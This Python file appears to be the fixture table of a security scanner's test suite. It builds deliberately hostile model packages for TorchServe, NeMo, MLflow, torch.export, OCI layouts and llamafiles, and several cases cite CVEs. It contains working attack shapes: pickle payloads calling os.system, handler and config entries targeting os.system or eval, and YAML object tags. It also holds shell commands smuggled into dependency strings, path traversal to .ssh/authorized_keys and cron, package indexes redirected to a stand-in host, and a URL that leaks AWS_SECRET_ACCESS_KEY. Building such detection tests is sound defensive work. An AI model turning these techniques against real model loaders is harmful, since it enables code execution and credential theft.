"""Packages that ship models: TorchServe, NeMo, MLflow, torch.export, OCI layouts, llamafiles."""

# ruff: noqa: E501 (a table reads better with one entry a line)

import hashlib
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

from proofs.hostile.case import Case, Files
from proofs.hostile.structure import safetensors

_ACT = b"import os\nos.system('echo seamark-harmless')\n"
_PAYLOAD = b"\x80\x02cposix\nsystem\nX\x15\x00\x00\x00echo seamark-harmless\x85R."
_HANDLER = b"def handle(data, context):\n    return data\n"
_NUMBERS = safetensors({"w": 4})
_COMMAND = "__import__('os').system('echo seamark-harmless')"


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _tar(members: dict[str, bytes], *, gz: bool = False) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    if not gz:
        return out.getvalue()
    import gzip

    return gzip.compress(out.getvalue(), mtime=0)


def torchserve() -> dict[str, Files]:
    """``.mar`` archives whose manifest or handler acts."""

    def mar(
        model: dict[str, Any], gz: bool = False, top: dict[str, Any] | None = None, **files: bytes
    ) -> bytes:
        entry = {
            "modelName": "m",
            "modelVersion": "1.0",
            "serializedFile": "model.safetensors",
            **model,
        }
        manifest = {
            "createdOn": "01/01/2026",
            "runtime": "python",
            "model": entry,
            "archiverVersion": "0.12.0",
            **(top or {}),
        }
        members = {name.replace("__", "."): data for name, data in files.items()}
        members = {
            "model.safetensors": _NUMBERS,
            **members,
            "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
        }
        return _tar(members, gz=True) if gz else _zip(members)

    late = b"import subprocess\n\nclass H:\n    def __init__(self):\n        subprocess.run(['echo', 'seamark-harmless'])\n"
    return {
        "own-handler.mar": mar({"handler": "handler.py"}, handler__py=_ACT + _HANDLER),
        "own-handler-packed.mar": mar({"handler": "handler.py"}, gz=True, handler__py=late),
        "handler-os.mar": mar({"handler": "os:system"}),
        "handler-reexport.mar": mar({"handler": "logging.os:system"}),
        "handler-subprocess.mar": mar({"handler": "subprocess:run"}),
        "requirements-other-name.mar": mar({"handler": "image_classifier", "requirementsFile": "needs"}, needs=b"--index-url http://seamark.invalid/simple\nnumpy\n"),
        "requirements-disguised.mar": mar({"handler": "image_classifier", "requirementsFile": "logo.gif"}, logo__gif=b"GIF89a @ https://seamark.invalid/x.zip\n"),
        "handler-outside.mar": mar({"handler": "../../tmp/handler.py"}),
        "handler-elsewhere.mar": mar({"handler": "seamark_custom:handle"}),
        "handler-built-in-name.mar": mar({"handler": "image_classifier.py"}, image_classifier__py=_ACT + _HANDLER),
        "model-file.mar": mar({"handler": "image_classifier", "modelFile": "net.py"}, net__py=_ACT),
        "pickled.mar": mar({"handler": "image_classifier", "serializedFile": "model.pt"}, model__pt=_PAYLOAD),
        "serialized-outside.mar": mar({"handler": "image_classifier", "serializedFile": "/etc/hostname"}),
        "requirements-index.mar": mar({"handler": "text_classifier", "requirementsFile": "requirements.txt"},
                                      requirements__txt=b"--extra-index-url http://seamark.invalid/simple\nnumpy\n"),
        "requirements-git.mar": mar({"handler": "text_classifier", "requirementsFile": "requirements.txt"},
                                    requirements__txt=b"numpy\nx @ git+https://seamark.invalid/x.git\n"),
        "requirements-split.mar": mar({"handler": "text_classifier", "requirementsFile": "requirements.txt"},
                                      requirements__txt=b"--index-\\\nurl https://seamark.invalid/simple\nnumpy\n"),
        "runtime.mar": mar({"handler": "image_classifier"}, top={"runtime": "/bin/sh"}),
        "native.mar": mar({"handler": "libhandler:H"}, top={"runtime": "LSP"}),
        "extra-code.mar": mar({"handler": "handler.py", "extraFiles": "extra.py"}, handler__py=b"from extra import *\n", extra__py=_ACT),
        "workflow.war": _zip({"MAR-INF/MANIFEST.json": json.dumps({"workflow": {"workflowName": "w", "specFile": "spec.yaml", "handler": "workflow_handler.py"}}).encode(),
                              "spec.yaml": b"models: {}\ndag: {}\n", "workflow_handler.py": _ACT}),
    }  # fmt: skip


def nemo() -> dict[str, Files]:
    """``.nemo`` archives whose configuration calls."""

    def archive(config: str, gz: bool = False, **files: bytes) -> bytes:
        members = {name.replace("__", "."): data for name, data in files.items()}
        return _tar(
            {
                "./model_config.yaml": config.encode(),
                "./model_weights.safetensors": _NUMBERS,
                **members,
            },
            gz=gz,
        )

    return {
        "target-os.nemo": archive("encoder:\n  _target_: os.system\n  command: echo seamark-harmless\n"),
        "target-packed.nemo": archive("encoder: {_target_: subprocess.Popen, args: [echo]}\n", gz=True),
        "target-escaped.nemo": archive('encoder: {"_t\\x61rget_": "os.system"}\n'),
        "target-merged.nemo": archive("x: &x {_target_: builtins.eval}\nencoder: {<<: *x}\n"),
        "target-reexport.nemo": archive("encoder: {_target_: nemo.utils.app_state.os.system}\n"),
        "target-computed.nemo": archive("a: os\nencoder: {_target_: '${a}.system'}\n"),
        "target-own.nemo": archive("encoder: {_target_: seamark_custom.Evil}\n"),
        "target-old.nemo": archive("target: os.system\n"),
        "target-hub.nemo": archive("encoder: {_target_: torch.hub.load, repo_or_dir: seamark/x}\n"),
        "artifact-outside.nemo": archive("tokenizer: {model: 'nemo:../../../tmp/x'}\n"),
        "member-outside.nemo": archive("a: 1\n", gz=False, **{"../../x.ckpt": _PAYLOAD}),
        "weights-pickled.nemo": archive("a: 1\n", model_weights__ckpt=_PAYLOAD),
        "yaml-tag.nemo": archive("a: !!python/object/apply:os.system ['echo seamark-harmless']\n"),
        "environment.nemo": archive("a: 'https://seamark.invalid/${oc.env:AWS_SECRET_ACCESS_KEY}'\n"),
        "unpacked": {"model_config.yaml": b"e: {_target_: os.system}\n", "model_weights.ckpt": _PAYLOAD},
        "remote-code.nemo": archive("tokenizer: {library: huggingface, type: seamark/x, trust_remote_code: true}\n"),
        "restore-elsewhere.nemo": archive("restore_from_path: /tmp/seamark.nemo\n"),
        "checkpoint-elsewhere.nemo": archive("language_model: {lm_checkpoint: ../../tmp/seamark.ckpt}\n"),
        "tokenizer-elsewhere.nemo": archive("tokenizer: {type: bpe, dir: /tmp/seamark}\n"),
    }  # fmt: skip


def mlflow() -> dict[str, Files]:
    """MLflow folders: what a flavor imports, where paths lead, what is installed."""
    head = "artifact_path: model\nmlflow_version: 3.1.0\n"

    def model(text: str, **files: bytes) -> Files:
        named = {name.replace("__", "."): data for name, data in files.items()}
        return {"MLmodel": (head + "flavors:\n  " + text).encode(), **named}

    plain = "python_function: {loader_module: mlflow.sklearn, model_path: model.skops, env: {virtualenv: python_env.yaml}}\n"
    return {
        "model-class": model("xgboost: {model_class: os.system, data: model.ubj}\n"),
        "model-class-own": model("lightgbm: {model_class: seamark_custom.Evil, data: model.lgb}\n"),
        "keras-module": model("keras: {keras_module: subprocess, data: data}\n"),
        "keras-module-own": model("tensorflow: {keras_module: seamark_custom, model_type: keras}\n"),
        "loader-merged": {"MLmodel": f"{head}x: &x {{loader_module: os}}\nflavors:\n  python_function: {{<<: *x}}\n".encode()},
        "loader-escaped": model('python_function: {"loader\\x5fmodule": "subprocess"}\n'),
        "loader-reexport": model("python_function: {loader_module: mlflow.utils.os.system}\n"),
        "artifact-outside": model("python_function: {loader_module: mlflow.pyfunc.model, artifacts: {x: {path: ../../../etc, uri: x}}}\n"),
        "weights-remote": model("transformers: {source_model_name: seamark/other, task: text-generation}\n"),
        "pickle-module": {**dict(model("pytorch: {model_data: data, pytorch_version: '2.1'}\n")),  # type: ignore[arg-type]
                          "data/pickle_module_info.txt": b"seamark_unpickler", "data/model.safetensors": _NUMBERS},
        "pickle-module-os": {**dict(model("pytorch: {model_data: data}\n")),  # type: ignore[arg-type]
                             "data/pickle_module_info.txt": b"os", "data/model.safetensors": _NUMBERS},
        "env-other-name": model("python_function: {loader_module: mlflow.sklearn, env: {virtualenv: needs.in}}\n", **{"needs.in": b"dependencies: ['--index-url http://seamark.invalid/simple', numpy]\n"}),
        "env-include": model(plain, conda__yaml=b"dependencies: [{pip: ['-r needs.in']}]\n", **{"needs.in": b"git+https://seamark.invalid/x.git\n"}),
        "env-lock": model(plain, **{"uv.lock": b'version = 1\n[[package]]\nname = "x"\nsource = { git = "https://seamark.invalid/x?rev=main" }\n'}),
        "env-command": model(plain, python_env__yaml=b"python: 3.11.7\ndependencies:\n- 'numpy; echo seamark-harmless'\n"),
        "env-substitution": model(plain, python_env__yaml=b"python: 3.11.7\ndependencies: ['numpy$(echo seamark-harmless)']\n"),
        "env-python": model(plain, python_env__yaml=b"python: '3.11; echo seamark-harmless'\n"),
        "env-index": model(plain, requirements__txt=b"--index-url=https://seamark.invalid/simple\nmlflow\n"),
        "env-conda": model(plain, conda__yaml=b"channels: [https://seamark.invalid/conda]\ndependencies: [python=3.11, {pip: [mlflow]}]\n"),
        "env-wheel": model(plain, requirements__txt=b"code/seamark-1.0-py3-none-any.whl\n"),
        "env-setup": model(plain, requirements__txt=b"-e ./code\n"),
        "agent": model("langchain: {model_code_path: agent.py, loader_fn: loader.pkl}\n", agent__py=_ACT, loader__pkl=_PAYLOAD),
        "plugin": model("seamark_flavor: {data: x}\n"),
    }  # fmt: skip


def export() -> dict[str, Files]:
    """``.pt2``: targets that act, text that is evaluated, native code."""

    def node(target: str) -> dict[str, Any]:
        return {"target": target, "inputs": [], "outputs": [], "metadata": {}, "name": "n"}

    def pt2(
        target: str = "torch.ops.aten.relu.default",
        index: Any = None,
        files: dict[str, bytes] | None = None,
        **more: Any,
    ) -> bytes:
        graph = {
            "graph_module": {"graph": {"nodes": [node(target)]}},
            "torch_version": "2.13.0",
            **more,
        }
        return _zip(
            {
                "m/archive_format": b"pt2",
                "m/archive_version": b"0",
                "m/models/model.json": json.dumps(graph).encode(),
                "m/data/weights/model_weights_config.json": json.dumps(
                    index or {"config": {}}
                ).encode(),
                **(files or {}),
            }
        )

    def size(text: str) -> Any:
        return [{"as_expr": {"expr_str": text, "hint": {"as_int": 2}}}]

    outside = {
        "config": {
            "w": {
                "path_name": "../../../x",
                "use_pickle": False,
                "tensor_meta": {"dtype": 7, "sizes": [{"as_int": 1}]},
            }
        }
    }
    old = {"graph_module": {"graph": {"nodes": [node("torch.load")]}}, "range_constraints": {}}
    return {
        "size-import.pt2": pt2(sizes=size(_COMMAND)),
        "size-attribute.pt2": pt2(sizes=size("().__class__.__base__.__subclasses__()")),
        "size-lambda.pt2": pt2(sizes=size("(lambda: 1)()")),
        "size-nested.pt2": pt2(sizes=size(f"Add(\"{_COMMAND}\", 1)")),
        "size-tower.pt2": pt2(sizes=size("9**9**9**9")),
        "range-name.pt2": pt2(range_constraints={_COMMAND: {"min_val": 1, "max_val": 2}}),
        "guard.pt2": pt2(guards_code=[_COMMAND]),
        "guard-method.pt2": pt2(guards_code=["L['x'].numpy().tofile('seamark')"]),
        "target-load.pt2": pt2("torch.load"),
        "target-hub.pt2": pt2("torch.hub.load"),
        "target-os.pt2": pt2("torch.serialization.os.system"),
        "target-library.pt2": pt2("torch.ops.load_library"),
        "target-file.pt2": pt2("torch.ops.aten.from_file.default"),
        "target-methodcaller.pt2": pt2("_operator.methodcaller"),
        "target-custom.pt2": pt2("torch.ops.seamark.custom.default"),
        "weights-outside.pt2": pt2(index=outside),
        "constant-pickle.pt2": pt2(files={"m/data/constants/opaque_obj_0": _PAYLOAD}),
        "inputs-pickle.pt2": pt2(files={"m/data/sample_inputs/model.pt": _PAYLOAD}),
        "native.pt2": pt2(files={"m/data/aotinductor/model/x.so": b"\x7fELF\x02\x01\x01" + bytes(57)}),
        "old.pt2": _zip({"version": b"8.0", "serialized_exported_program.json": json.dumps(old).encode()}),
    }  # fmt: skip


def oci() -> dict[str, Files]:
    """Layouts whose manifest and blobs do not agree, or lead out."""

    def layout(
        layers: list[dict[str, Any]],
        config: Any = None,
        blobs: dict[str, bytes] | None = None,
        drop: tuple[str, ...] = (),
    ) -> Files:
        files = {"oci-layout": b'{"imageLayoutVersion":"1.0.0"}'}

        def put(data: bytes, kind: str) -> dict[str, Any]:
            value = hashlib.sha256(data).hexdigest()
            files[f"blobs/sha256/{value}"] = data
            return {"mediaType": kind, "digest": f"sha256:{value}", "size": len(data)}

        described = []
        for layer in layers:
            layer = dict(layer)
            data = layer.pop("data", None)
            made = (
                put(data, layer.get("mediaType", "application/octet-stream"))
                if data is not None
                else {}
            )
            described.append({**made, **layer})
        manifest = {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": put(
                json.dumps(config or {}).encode(), "application/vnd.kitops.modelkit.config.v1+json"
            ),
            "layers": described,
        }
        index = {
            "schemaVersion": 2,
            "manifests": [
                put(json.dumps(manifest).encode(), "application/vnd.oci.image.manifest.v1+json")
            ],
        }
        files["index.json"] = json.dumps(index).encode()
        for name in drop:
            files.pop(name, None)
        return {**files, **(blobs or {})}

    def titled(
        title: str, data: bytes = _NUMBERS, kind: str = "application/octet-stream"
    ) -> dict[str, Any]:
        return {
            "data": data,
            "mediaType": kind,
            "annotations": {"org.opencontainers.image.title": title},
        }

    gone = hashlib.sha256(_NUMBERS).hexdigest()
    return {
        "title-outside": layout([titled("../../../.ssh/authorized_keys")]),
        "title-absolute": layout([titled("/etc/cron.d/seamark")]),
        "kitfile-outside": layout([titled("m.safetensors")], {"manifestVersion": "1.0", "model": {"path": "../../x"}}),
        "digest-path": layout([{"digest": "sha256:../../../../etc/passwd", "size": 1, "mediaType": "application/octet-stream"}]),
        "digest-algorithm": layout([{"digest": "seamark:00", "size": 1, "mediaType": "application/octet-stream"}]),
        "exchanged": layout([titled("m.safetensors")], blobs={f"blobs/sha256/{gone}": _NUMBERS[:-1] + b"\1"}),
        "size-lies": layout([{**titled("m.safetensors"), "size": 3}]),
        "foreign": layout([{**titled("m.safetensors"), "urls": ["https://seamark.invalid/layer"]}]),
        "type-lies": layout([titled("m.safetensors", _PAYLOAD, "application/vnd.cncf.model.weight.v1.safetensors")]),
        "type-tar": layout([titled("m.tar", _PAYLOAD, "application/vnd.cncf.model.weight.v1.tar")]),
        "pickled": layout([titled("m.pkl", _PAYLOAD)]),
        "code": layout([titled("handler.py", _ACT), titled("m.safetensors"), titled("config.json", b'{"auto_map":{"AutoModel":"handler.X"}}')]),
        "layer-tar": layout([titled("m.tar", _tar({"../../x.pkl": _PAYLOAD}), "application/vnd.kitops.modelkit.model.v1.tar")]),
        "layer-packed": layout([titled("m", _tar({"m.pkl": _PAYLOAD}, gz=True), "application/vnd.oci.image.layer.v1.tar+gzip")]),
        "missing": layout([titled("m.safetensors")], drop=(f"blobs/sha256/{gone}",)),
    }  # fmt: skip


def programs() -> dict[str, Files]:
    """Programs that carry models, archives or arguments."""
    elf = (
        b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<2HI3QI6H", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
    )
    pe = (
        b"MZ"
        + bytes(58)
        + struct.pack("<I", 64)
        + b"PE\0\0"
        + struct.pack("<2H3I2H", 0x8664, 0, 0, 0, 0, 0, 0)
    )
    ape = b"MZqFpD='\n" + bytes(119)
    sevenz = b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)

    def file(args: str = "", **more: bytes) -> bytes:
        members = {
            ".args": args.encode(),
            **{name.replace("__", "."): data for name, data in more.items()},
        }
        return ape + _zip(members)

    return {
        "plain.llamafile": file("-m\nm.gguf\n"),
        "host.llamafile": file("-m\nm.gguf\n--host\n0.0.0.0\n"),
        "unsecure.llamafile": file("--unsecure\n"),
        "path.llamafile": file("--path\n/\n--server\n"),
        "model-url.llamafile": file("--model-url\nhttps://seamark.invalid/m.gguf\n"),
        "model-outside.llamafile": file("-m\n../../m.gguf\n"),
        "pickled.llamafile": file("-m\nm.gguf\n", m__pkl=_PAYLOAD),
        "portable.gguf": file("-m\nm.gguf\n"),
        "elf.safetensors": elf,
        "elf.gguf": elf + bytes(64),
        "pe.onnx": pe + bytes(64),
        "macho.pt": b"\xcf\xfa\xed\xfe" + bytes(60),
        "unpacker.bin": elf + sevenz,
        "unpacker.exe": pe + b"Rar!\x1a\x07\x01\0" + bytes(24),
        "packed.elf": elf + _tar({"m.pkl": _PAYLOAD}, gz=True),
        "zipped.exe": pe + _zip({"m.pkl": _PAYLOAD}),
    }


_TABLES: dict[str, tuple[Callable[[], dict[str, Files]], str]] = {
    "torchserve": (torchserve, "own; ShellTorch-like requirements and handlers"),
    "nemo": (nemo, "CVE-2025-23304, CVE-2024-0129 and own"),
    "mlflow": (mlflow, "CVE-2025-15379 and own"),
    "export": (export, "own, sympify and exec in torch.export"),
    "oci": (oci, "CVE-2024-37032 and own"),
    "program": (programs, "own"),
}
_STOPPED = frozenset({"oci/missing", "program/packed.elf"})


def cases() -> Iterator[Case]:
    """One file or folder an entry."""
    for group, (table, source) in _TABLES.items():
        for name in table():
            yield Case(
                id=f"package/{group}/{name}", family="package", group=group, source=source,
                path=f"package/{group}/{name}", build=lambda t=table, n=name: t()[n],
                expected="stopped" if f"{group}/{name}" in _STOPPED else "found",
            )  # fmt: skip
